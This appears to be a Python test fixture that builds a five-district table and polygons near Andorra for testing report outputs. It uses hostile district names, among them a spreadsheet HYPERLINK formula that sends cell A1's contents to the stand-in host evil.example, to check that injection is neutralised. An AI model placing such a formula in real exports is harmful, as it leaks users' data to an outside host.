"""The region table of the output tests: five districts (one of each class of goal
attainment, hostile names, an error with markup) and their polygons near Andorra."""

from __future__ import annotations

import geopandas as gpd
import numpy as np
import pandas as pd
import shapely

from .conftest import EVIL

MINUTES = (8.0, 10.0, 15.0)
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'


def row(name, status, folder, *, today, after, goal=0.8, error="", hotspots=10):
    r = {"district": name, "status": status, "error": error, "folder": folder,
         "hotspots": hotspots, "demand": 12.5 * hotspots, "stations": 2, "candidates": 6,
         "sites_suggested": 0 if status != "done" else 2}  # fmt: skip
    for m in ("8", "10", "15"):
        t = np.nan if today is None else today
        a = np.nan if after is None else after
        r.update({f"today_{m}": t, f"after_{m}": a, f"goal_{m}": goal,
                  f"met_today_{m}": bool(t >= goal),
                  f"met_after_{m}": bool(a >= goal)})  # fmt: skip
    return r


def table() -> pd.DataFrame:
    """Five districts, one of each class; hostile names and an error with markup."""
    rows = [
        row("Escaldes", "done", "escaldes", today=0.9, after=0.95),  # met
        row(EVIL, "done", "d-evil", today=0.5, after=0.85),  # met with the sites
        row(FORMULA, "done", "d formula", today=0.3, after=0.5),  # not met
        row("Canillo", "no hotspots", "canillo", today=None, after=None, hotspots=0),
        row("Ordino", "failed", "", today=None, after=None, error="invalid polygon <b>x</b>"),
    ]
    return pd.DataFrame(rows)


def districts(table: pd.DataFrame) -> gpd.GeoDataFrame:
    """Side by side boxes of 2 km near Andorra, one of them with a wiggly border of 4000
    vertices that its neighbour shares."""
    names = list(table["district"])
    x0, y0, step = 1.50, 42.50, 0.025
    t = np.linspace(0, 1, 4000)
    wiggle = [(x0 + step + 0.0005 * np.sin(60 * np.pi * s), y0 + step * s) for s in t]
    left = shapely.Polygon([(x0, y0), *wiggle, (x0, y0 + step)])
    right = shapely.Polygon([*wiggle, (x0 + 2 * step, y0 + step), (x0 + 2 * step, y0)])
    boxes = [shapely.box(x0 + i * step, y0, x0 + (i + 1) * step, y0 + step) for i in range(2, 5)]
    return gpd.GeoDataFrame({"district": names}, geometry=[left, right, *boxes], crs=4326)
